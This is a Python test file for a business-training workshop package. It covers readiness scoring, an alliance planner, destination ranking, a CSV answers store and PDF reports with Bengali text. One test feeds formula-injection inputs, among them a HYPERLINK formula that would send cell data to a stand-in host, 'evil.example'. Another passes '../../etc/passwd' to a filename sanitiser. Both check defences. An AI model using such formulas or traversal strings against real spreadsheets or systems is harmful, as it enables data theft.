"""Workshop apps without a browser: the pure compute functions, the answers store, the PDF report,
and the ipywidgets apps driven from Python (callbacks, friendly errors, reset confirmation)."""

from __future__ import annotations

import base64
import csv
import io
import json
import multiprocessing
import re
import unicodedata

import pytest

from conftest import REPO
from sme_teach import datasets, measures, workshop
from sme_teach.workshop import WorkshopInputError

pypdf = pytest.importorskip("pypdf")


@pytest.fixture(autouse=True)
def store(tmp_path, monkeypatch):
    monkeypatch.setenv("SME_TEACH_WORKSHOP_DIR", str(tmp_path / "answers"))
    return tmp_path / "answers"


def _answers(value=4, **override):
    inst = measures.load_instrument()
    return {**{i: value for i in inst.item_ids}, **override}


def _pdf_text(data: bytes):
    """pypdf's text of every page, spaces collapsed, NFC.

    A shaped Bengali cluster drawn as two glyphs (e.g. the vowel sign ি before its consonant)
    carries its text on the first glyph; pypdf prints the second, text-less glyph as a control
    character, which is dropped here (it is not text)."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    text = " ".join(p.extract_text() for p in reader.pages)
    text = "".join(ch for ch in text if unicodedata.category(ch) != "Cc" or ch in "\n\t")
    return reader, unicodedata.normalize("NFC", " ".join(text.split()))


# ----------------------------------------------------------------------------- recommendations


def test_recommendation_quotes_are_sentences_of_the_seed_papers(seeds_dir):
    def norm(s):
        return re.sub(r"\s+", " ", s.replace("*", "")).strip()

    texts = {"bose2016": norm((seeds_dir / "bose_critical_success_factors.txt").read_text(encoding="utf-8")),
             "bose_bristy": norm((seeds_dir / "bose_bristy_alliance_fsa.txt").read_text(encoding="utf-8"))}
    recs = workshop.load_recommendations()
    steps = [s for v in recs["readiness"].values() for s in v] + recs["alliance"] + recs["destination"] \
        + recs["spillover"]
    for s in steps:
        assert norm(s["quote"]) in texts[s["source"]], f"not a sentence of {s['source']}: {s['quote'][:80]!r}"


def test_every_readiness_dimension_has_next_steps():
    inst = measures.load_instrument()
    recs = workshop.load_recommendations()["readiness"]
    assert set(inst.dimension_ids) <= set(recs)
    assert all(len(recs[d]) >= 2 for d in inst.dimension_ids)


# ----------------------------------------------------------------------------- readiness


def test_readiness_scores_match_measures_and_pick_weakest_area():
    answers = _answers(4, net_1=1, net_2=1, net_3=1, net_4=5)
    r = workshop.compute_readiness(answers, " Rupsha Jute Works ", "Mrs Akter")
    ref = measures.readiness_scores(answers)
    assert r.firm == "Rupsha Jute Works"
    assert r.overall == pytest.approx(float(ref["overall"]))
    assert r.weakest[0] == "cluster_networking" == ref["weakest"]
    assert r.scores["cluster_networking"] == 0
    assert r.strongest and not set(r.strongest) & set(r.weakest)
    assert [x["dimension"] for x in r.recommendations][:1] == ["cluster_networking"]
    assert all(x["quote"] and x["citation"] for x in r.recommendations)
    row = r.row()
    assert row["firm"] == "Rupsha Jute Works" and row["net_1"] == 1 and row["band"] == ref["band"]


def test_readiness_missing_answers_give_a_friendly_message():
    answers = _answers(3, cur_1=None, pro_2=None)
    with pytest.raises(WorkshopInputError, match=r"^2 questions still need an answer \(the first is in 'Current"):
        workshop.compute_readiness(answers)


# ----------------------------------------------------------------------------- alliance


def test_alliance_builds_and_bottlenecks():
    # trust "Not at all": the paper's necessary condition stops everything under the default rule
    zero = workshop.compute_alliance(["information_sharing", "joint_marketing"], {"trust_and_confidence": 1})
    assert (zero.competency == 0).all() and not zero.top_competencies
    assert zero.weak_moderators[0]["id"] == "trust_and_confidence"
    r = workshop.compute_alliance(["information_sharing", "joint_marketing"], {"trust_and_confidence": 2})
    ref = measures.propagate({"information_sharing": 1.0, "joint_marketing": 1.0},
                             {"trust_and_confidence": 0.25, **{k: 0.5 for k in [
                                 "coordination_and_control", "investment_security", "industry_potentiality",
                                 "alliance_timing_and_sequencing", "equal_distribution_of_benefits"]}},
                             {k: 0.5 for k in r.moderator_answers if k not in ref_m1()})
    assert r.competency.to_dict() == pytest.approx(ref.competency.to_dict())
    assert r.weak_moderators[0]["id"] == "trust_and_confidence" and r.weak_moderators[0]["quote"]
    assert r.top_competencies and r.competency[r.top_competencies[0]] == r.competency.max()
    # competencies nothing chosen builds come with alliances that would build them
    assert r.missing and all(m["label"] for m in r.missing)
    assert any(m["alliances"] for m in r.missing)


def ref_m1():
    return {"trust_and_confidence", "coordination_and_control", "investment_security", "industry_potentiality",
            "alliance_timing_and_sequencing", "equal_distribution_of_benefits"}


def test_alliance_weakest_link_rule_and_errors():
    strict = workshop.compute_alliance(["joint_marketing"], {"trust_and_confidence": 1}, weakest_link=True)
    assert strict.competency.max() == 0  # "Not at all" trust blocks everything under the strict rule
    with pytest.raises(WorkshopInputError, match="Pick at least one"):
        workshop.compute_alliance(["not_an_alliance"], {})
    with pytest.raises(WorkshopInputError, match="from 1 to 5"):
        workshop.compute_alliance(["joint_marketing"], {"trust_and_confidence": 9})


# ----------------------------------------------------------------------------- destinations


def test_destinations_rank_like_measures():
    w = {"cultural": 2, "geographic": 2, "economic": 1, "psychic": 1}
    r = workshop.compute_destinations("BGD", ["GBR", "IND", "BGD", "ARE"], w)
    from sme_teach import datasets

    ref = measures.rank_destinations("BGD", ["GBR", "IND", "ARE"], w, countries=datasets.load_countries(),
                                     hofstede=datasets.load_hofstede())
    assert list(r.table.index) == list(ref.index)
    assert r.table["total"].fillna(-1).tolist() == pytest.approx(ref["total"].fillna(-1).tolist())
    assert {"common_language", "contiguous", "distance_km"} <= set(r.table.columns)
    assert any("home country was taken out" in n for n in r.notes)
    assert any("United Arab Emirates" in n for n in r.notes)  # no Hofstede scores → said in words


@pytest.mark.parametrize("home, cands, weights, msg", [
    ("XXX", ["IND"], {"geographic": 1}, "home country"),
    ("BGD", [], {"geographic": 1}, "at least one market"),
    ("BGD", ["IND"], {"geographic": 0, "cultural": "a lot"}, "slider above 0"),
])
def test_destination_errors_are_friendly(home, cands, weights, msg):
    with pytest.raises(WorkshopInputError, match=msg):
        workshop.compute_destinations(home, cands, weights)


# ----------------------------------------------------------------------------- spillover


def test_spillover_probabilities_and_rounds():
    import networkx as nx

    G = nx.path_graph(5)
    r = workshop.compute_spillover([0], 1.0, G=G, runs=20)
    assert r.expected == 5 and r.rounds == {0: 0, 1: 1, 2: 2, 3: 3, 4: 4}
    r = workshop.compute_spillover(["KS01"], 0.3)
    ref = measures.independent_cascade(datasets.load_alliance_network(), ["KS01"], 0.3, runs=500, seed=7)
    assert r.probability.equals(ref)
    assert r.probability["KS01"] == 1
    assert workshop.compute_spillover(["KS01"], "strength").expected > r.expected
    with pytest.raises(WorkshopInputError, match="where the news starts"):
        workshop.compute_spillover([], 0.3)
    with pytest.raises(WorkshopInputError, match="between 0 and 1"):
        workshop.compute_spillover(["KS01"], 3)


def test_best_starts_are_sorted():
    best = workshop.compute_best_starts(0.3, k=3, runs=50)
    assert len(best) == 3 and best.is_monotonic_decreasing


# ----------------------------------------------------------------------------- store


def _csv_rows(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark to show Bengali"
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"))))


def test_answers_csv_has_bom_question_headers_and_one_row_per_participant(store):
    labels = {"q1": "I know which markets I want to sell to", "firm": "Firm"}
    workshop.append_answers("demo", {"firm": "A", "owner": "", "q1": 1}, labels=labels)
    workshop.append_answers("demo", {"firm": "B, Ltd \"Khulna\"", "owner": "Mrs Akter", "q1": 2}, labels=labels)
    workshop.append_answers("demo", {"firm": "খুলনা চিংড়ি", "owner": "রহিমা", "q1": 3, "q2": 5}, labels=labels)
    workshop.append_answers("demo", {"firm": " b, LTD \"khulna\" ", "owner": "MRS  akter", "q1": 4}, labels=labels)
    rows = _csv_rows(store / "demo_answers.csv")
    header = rows[0]
    assert "I know which markets I want to sell to [q1]" in header and "Firm [firm]" in header and "q2" in header
    by = [dict(zip(header, r)) for r in rows[1:]]
    assert [r["Firm [firm]"] for r in by] == ["A", "খুলনা চিংড়ি", ' b, LTD "khulna" ']  # B saved twice: replaced
    assert by[2]["I know which markets I want to sell to [q1]"] == "4" and by[0]["q2"] == "" and by[1]["q2"] == "5"
    saved = workshop.read_answers("demo")
    assert saved.columns[:3].tolist() == ["saved_at", "participant", "firm"]
    assert saved["q1"].tolist() == [1, 3, 4] and saved["firm"].tolist()[1] == "খুলনা চিংড়ি"
    assert saved["participant"].tolist()[2] == 'b, ltd "khulna" | mrs akter'
    assert workshop.answers_csv_bytes("demo").startswith("\ufeffSaved at [saved_at],".encode())
    assert not list(store.glob("*.tmp"))
    # a page that saved under a name it then corrected replaces its own row
    workshop.append_answers("demo", {"firm": "Mongla Fsh", "owner": "", "q1": 2})
    workshop.append_answers("demo", {"firm": "Mongla Fish", "owner": "", "q1": 2}, replaces="mongla fsh | ")
    assert workshop.read_answers("demo")["firm"].tolist() == ["A", "খুলনা চিংড়ি", ' b, LTD "khulna" ', "Mongla Fish"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1", "'=already quoted", "＝1+1"])
def test_answers_csv_cells_are_formula_safe_and_round_trip(store, name):
    workshop.append_answers("demo", {"firm": name, "owner": "o", "q1": -3})
    rows = _csv_rows(store / "demo_answers.csv")
    cell = dict(zip(rows[0], rows[1]))["Firm [firm]"]
    assert cell == "'" + name and cell[0] == "'"  # Excel shows text, runs nothing
    assert dict(zip(rows[0], rows[1]))["q1"] == "-3"  # numbers stay numbers
    saved = workshop.read_answers("demo")
    assert saved["firm"].tolist() == [name] and saved["q1"].tolist() == [-3]
    workshop.append_answers("demo", {"firm": name, "owner": "o", "q1": -2})  # saved again: replaced
    assert workshop.read_answers("demo")["q1"].tolist() == [-2]


def test_band_sentence_follows_the_instrument_file():
    import dataclasses

    inst = measures.load_instrument()
    assert workshop.readiness_app().band_sentence().startswith("The dotted lines at 40 and 70 split the scores into 3")
    other = dataclasses.replace(inst, bands=(("low", 30), ("developing", 55), ("strong", None)))
    text = workshop.readiness_app(other).band_sentence()
    assert text.startswith("The dotted lines at 30 and 55") and "55 and above means" in text


def _writer(args):
    directory, k = args
    import os

    os.environ["SME_TEACH_WORKSHOP_DIR"] = directory
    from sme_teach.workshop import append_answers

    for i in range(25):
        append_answers("race", {"firm": f"firm{k}", "owner": f"owner{i}", "i": i, "text": "x" * 200})
        append_answers("race", {"firm": f"firm{k}", "owner": f"owner{i}", "i": i, "text": "y" * 200})  # saved again


def test_concurrent_saves_lose_nothing_and_duplicate_nothing(store):
    store.mkdir(parents=True, exist_ok=True)
    ctx = multiprocessing.get_context("spawn")
    with ctx.Pool(4) as pool:
        pool.map(_writer, [(str(store), k) for k in range(4)])
    rows = list(csv.DictReader(open(store / "race_answers.csv", encoding="utf-8-sig")))
    assert len(rows) == 100
    assert sorted((r["Firm [firm]"], int(r["i"])) for r in rows) == sorted(
        (f"firm{k}", i) for k in range(4) for i in range(25))
    assert {r["text"] for r in rows} == {"y" * 200}


def test_workshop_dir_default(monkeypatch, tmp_path):
    monkeypatch.delenv("SME_TEACH_WORKSHOP_DIR")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert workshop.workshop_dir() == tmp_path / "sme_teach_workshop"


# ----------------------------------------------------------------------------- report


def _text_x_positions(reader):
    """(page, x in pt) of every text chunk drawn (pypdf's visitor)."""
    out = []
    for n, page in enumerate(reader.pages):
        page.extract_text(visitor_text=lambda text, cm, tm, *_: text.strip() and out.append((n, tm[4] * cm[0] + cm[4])))
    return out


def test_report_wraps_and_lists_every_answer_on_more_pages():
    recs = [{"step": "Do something useful. " * 8, "quote": "A long quoted sentence. " * 6, "citation": "X (2016)"}] * 5
    long_answer = ", ".join(["Joint marketing", "Information sharing", "Joint production", "Shared training",
                             "Joint purchasing", "Collective lobbying", "Subcontracting"])
    answers = [(f"Question {i} about how your firm sells abroad today and tomorrow", "4 Mostly") for i in range(40)]
    answers.append(("Ways of working together", long_answer))
    report = workshop._report.make_report(
        title="Readiness", firm="Rūpsha Jute Works", owner="Mrs Akter", headline="Overall 55 of 100",
        scores=[(f"Area {i} with a label long enough to need two lines", f"{i} / 100") for i in range(20)],
        answers=answers, chart_png=None, chart_alt="", recommendations=recs, note="A note.")
    reader, text = _pdf_text(report.pdf)
    assert len(reader.pages) == report.pages >= 2 and report.replaced == ()
    assert "Rūpsha Jute Works" in text and "Overall 55 of 100" in text and "…" not in text
    assert all(f"Question {i} about" in text for i in range(40)) and "Your answers (continued)" in text
    assert long_answer.replace(", ", " ") in text.replace(", ", " ")  # wrapped, every word there
    assert reader.metadata.title == "Readiness - Rūpsha Jute Works"
    width = float(reader.pages[0].mediabox.width)
    xs = _text_x_positions(reader)
    assert xs and max(x for _, x in xs) < width - 14 * 72 / 25.4, "text starts beyond the right margin"


def test_report_prints_bengali_names_shaped_and_replaces_emoji_visibly(test_output):
    if not workshop._report.font_files()["bengali"]:
        pytest.fail("Noto Sans Bengali is missing: run scripts/ensure_fonts.sh (make test does)")
    firm, owner = "খুলনা চিংড়ি প্রসেসিং", "রহিমা আক্তার"
    report = workshop._report.make_report(
        title="Readiness", firm=firm + " 🐟", owner=owner, headline="Overall 55 of 100", scores=[("Overall", "55")],
        answers=[("Firm name", firm)], chart_png=None, chart_alt="", recommendations=[])
    reader, text = _pdf_text(report.pdf)
    assert unicodedata.normalize("NFC", firm) in text and unicodedata.normalize("NFC", owner) in text
    assert report.replaced == ("🐟",) and workshop._report.REPLACEMENT in text and "🐟" not in text
    fonts = {str(f["/BaseFont"]) for f in (reader.pages[0]["/Resources"]["/Font"][k].get_object()
                                            for k in reader.pages[0]["/Resources"]["/Font"])}
    assert any("NotoSansBengali" in f for f in fonts) and any("DejaVuSans" in f for f in fonts), fonts
    # shaped: the conjunct ক্ত (in আক্তার) is one glyph, so fewer glyphs than characters are drawn
    import uharfbuzz as hb

    blob = hb.Blob.from_file_path(str(workshop._report.font_files()["bengali"][0]))
    buf = hb.Buffer()
    buf.add_str("ক্ত")
    buf.guess_segment_properties()
    hb.shape(hb.Font(hb.Face(blob)), buf, {})
    assert len(buf.glyph_infos) < 3
    assert workshop._report.unshown_characters(firm, "A 🐟 B") == ["🐟"]
    # a page to look at: test-output/workshop_report_bengali-1.png (pdftoppm from poppler-utils, scripts/ensure_fonts.sh)
    import shutil
    import subprocess

    if not shutil.which("pdftoppm"):
        pytest.fail("pdftoppm is missing: run scripts/ensure_fonts.sh (make test does)")
    (test_output / "workshop_report_bengali.pdf").write_bytes(report.pdf)
    subprocess.run(["pdftoppm", "-png", "-r", "110", "-f", "1", "-l", "1", str(test_output / "workshop_report_bengali.pdf"),
                    str(test_output / "workshop_report_bengali")], check=True, timeout=60)
    assert (test_output / "workshop_report_bengali-1.png").stat().st_size > 5000


def test_report_filename_is_safe():
    assert workshop.report_filename("../../etc/passwd") == "report_etc_passwd.pdf"
    assert workshop.report_filename("   ") == "report_my_firm.pdf"
    assert workshop.report_filename("খুলনা চিংড়ি প্রসেস") == "report_খুলনা_চিংড়ি_প্রসেস.pdf"  # marks kept
    assert workshop.report_filename("🐟🐟") == "report_my_firm.pdf"
    assert workshop.report_filename("--rf " + "ক্ত" * 40).startswith("report_rf_ক্ত")
    assert not workshop.report_filename("ক" + "্ত" * 40)[:-4].endswith("্")


# ----------------------------------------------------------------------------- apps driven from Python


def test_readiness_app_flow(store):
    app = workshop.readiness_app()
    assert "26 questions still need an answer" in app.result.value
    with pytest.raises(WorkshopInputError, match="firm's name"):
        app.on_report()  # the raw method raises; the button's wrapped callback shows it
    app.report_button.click()
    assert "firm&#x27;s name" in app.status.value and "sme-msg-warn" in app.status.value
    for item, w in app.items.items():
        w.value = 1 if item.startswith("inn") else 4
    assert "sme-overall" in app.result.value and "<img" in app.result.value and 'alt="Bar chart' in app.result.value
    app.firm.value = "Rupsha Jute Works"
    app.report_button.click()
    assert 'download="report_Rupsha_Jute_Works.pdf"' in app.report_link.value
    import base64

    data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
    reader, text = _pdf_text(data)
    assert "Rupsha Jute Works" in text and "Innovation" in text and "…" not in text
    assert all(" ".join(t.split()) in text for t in app.instrument.items["text"]), "every answer is listed"
    assert "The dotted lines at 40 and 70 split the scores into 3 bands" in text
    assert "Press the blue button" in app.status.value
    # changing an answer hides the now-outdated report link, and the status follows
    app.items["cur_1"].value = 2
    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
    assert "old report was removed" in app.status.value
    app.save_button.click()
    assert "Saved" in app.status.value
    assert "1 saved answer " in app.count.value and "Download all answers (CSV)" in app.csv_link.value
    # Start again asks first; "No" keeps everything, "Yes" clears
    app.reset_button.click()
    assert app.confirm_box.layout.display == "flex" and app.firm.value == "Rupsha Jute Works"
    app.confirm_no.click()
    assert app.items["cur_1"].value == 2 and app.confirm_box.layout.display == "none"
    app.reset_button.click()
    app.confirm_yes.click()
    assert app.firm.value == "" and all(w.value is None for w in app.items.values())


def test_a_new_name_invalidates_the_report_and_the_status_follows(store):
    app = workshop.spillover_app()
    app.firm.value = "Rupsha Jute Works"
    app.report_button.click()
    assert "report-link" in app.report_link.value and "Press the blue button" in app.status.value
    app.firm.value = "খুলনা চিংড়ি"  # the next participant types only a new name
    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
    assert "name changed" in app.status.value
    app.report_button.click()
    assert 'download="report_খুলনা_চিংড়ি.pdf"' in app.report_link.value
    app.owner.value = "রহিমা"
    assert app.report_link.value == "" and "Press the blue button" not in app.status.value
    # an emoji in the name: the report is made, the page says what it cannot print
    app.firm.value = "Fish 🐟"
    app.report_button.click()
    assert "report-link" in app.report_link.value and "cannot print 🐟" in app.status.value
    assert "sme-msg-warn" in app.status.value


def test_without_a_bengali_font_the_page_says_so(store, monkeypatch):
    monkeypatch.setattr(workshop._report, "_BENGALI_DIRS", ())
    app = workshop.spillover_app()
    app.firm.value = "খুলনা চিংড়ি"
    app.report_button.click()
    data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
    _, text = _pdf_text(data)
    assert "lacks the Noto Sans Bengali font" in app.status.value and "sme-msg-warn" in app.status.value
    assert "খ" not in text and workshop._report.REPLACEMENT in text


def test_saving_twice_keeps_one_row_and_start_again_starts_a_new_participant(store):
    app = workshop.alliance_app()
    app.alliances["joint_marketing"].value = True
    app.firm.value = "Mongla Fsh"
    app.save_button.click()
    app.firm.value = "Mongla Fish"  # a typo fixed, saved again from the same page
    app.save_button.click()
    assert workshop.read_answers("alliance")["firm"].tolist() == ["Mongla Fish"]
    app.save_button.click()
    assert "Saved again" in app.status.value and len(workshop.read_answers("alliance")) == 1
    app.reset_button.click()
    app.confirm_yes.click()
    app.alliances["joint_marketing"].value = True
    app.firm.value = "Mongla Fsh"  # a different participant on the same laptop
    app.save_button.click()
    assert workshop.read_answers("alliance")["firm"].tolist() == ["Mongla Fish", "Mongla Fsh"]
    header = _csv_rows(store / "alliance_answers.csv")[0]
    assert "Ways of working together [alliances]" in header and "Firm [firm]" in header


def test_alliance_report_states_the_moderation_rule(store):
    app = workshop.alliance_app()
    app.alliances["joint_marketing"].value = True
    app.weakest_link.value = True
    next(iter(app.moderators.values())).value = 1
    app.firm.value = "Khulna Leather"
    app.report_button.click()
    data = base64.b64decode(re.search(r'base64,([^"]+)"', app.report_link.value).group(1))
    _, text = _pdf_text(data)
    assert "0 / 100" in text and "only the weakest condition counts" in text
    assert "it is the rule, not a mistake" in text and "Not at all = 0%" in text


def test_unexpected_errors_are_logged_not_shown(store, monkeypatch):
    app = workshop.destination_app()
    app.firm.value = "Mongla Fish"

    def boom(*a, **k):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(workshop._store, "append_answers", boom)
    app.save_button.click()
    assert "something went wrong" in app.status.value and "disk on fire" not in app.status.value
    assert "RuntimeError: disk on fire" in (store / "workshop.log").read_text()


@pytest.mark.parametrize("factory, setup", [
    ("alliance_app", lambda a: a.alliances["joint_marketing"].set_trait("value", True)),
    ("destination_app", lambda a: a.weights["psychic"].set_trait("value", 5)),
    ("spillover_app", lambda a: a.chance.set_trait("value", 0.5)),
])
def test_other_apps_save_and_report(factory, setup, store):
    app = getattr(workshop, factory)()
    setup(app)
    app.firm.value = "Khulna Leather"
    assert "sme-msg-warn" not in app.status.value
    app.report_button.click()
    assert "report_Khulna_Leather.pdf" in app.report_link.value, app.status.value
    app.save_button.click()
    assert "Saved" in app.status.value
    assert workshop.read_answers(app.app_id)["firm"].tolist() == ["Khulna Leather"]


def test_spillover_best_start_button():
    app = workshop.spillover_app()
    app.best_button.click()
    assert "Best single starting firms" in app.best_out.value


# ----------------------------------------------------------------------------- course files


def test_workshop_notebooks_only_import_and_display():
    import nbformat

    for name in ["readiness_diagnostic", "alliance_planner", "destination_explorer", "spillover_game"]:
        nb = nbformat.read(REPO / "course" / "workshop" / f"{name}.ipynb", as_version=4)
        code = [c.source for c in nb.cells if c.cell_type == "code"]
        # cell 1 builds and shows the app (in a preheated kernel, before any page asks); cell 2 follows the
        # page's ?lang= (sme_teach.workshop.WorkshopApp.use_page_language): no other logic in the notebook
        assert len(code) == 2, name
        first = [line for line in code[0].splitlines() if line.strip()]
        fn = name.split("_")[0] + "_app"
        assert first == [f"from sme_teach.workshop import {fn}", f"app = {fn}()", "app"], (name, first)
        second = [line for line in code[1].splitlines() if line.strip() and not line.lstrip().startswith("#")]
        assert second == ["app.use_page_language();"], (name, second)


def test_voila_config_hides_code_and_unrelated_extensions():
    cfg = json.loads((REPO / "course" / "workshop" / "voila.json").read_text())["VoilaConfiguration"]
    assert cfg["strip_sources"] is True and cfg["show_tracebacks"] is False
    assert "@jupyter/nbgrader" not in cfg["extension_allowlist"]
    assert cfg["template"] == "sme_workshop"
    assert (REPO / "course" / "workshop" / "jupyter" / "voila" / "templates" / "sme_workshop" / "index.html.j2").is_file()


def test_alliance_planner_warns_that_common_pricing_is_cartel_conduct():
    """The seed's Common Pricing stays, with the course's legal caution in the planner's text and next steps."""
    from sme_teach import cases

    definition = cases.alliance_nodes("alliance").set_index("id").at["common_pricing", "definition"]
    assert "cartel" in definition
    r = workshop.compute_alliance(["common_pricing", "joint_marketing"], {})
    assert "Competition Act 2012" in r.recommendations[0]["step"] and "cartel" in r.recommendations[0]["step"]
    other = workshop.compute_alliance(["joint_marketing"], {})
    assert not any("Competition Act" in x["step"] for x in other.recommendations)
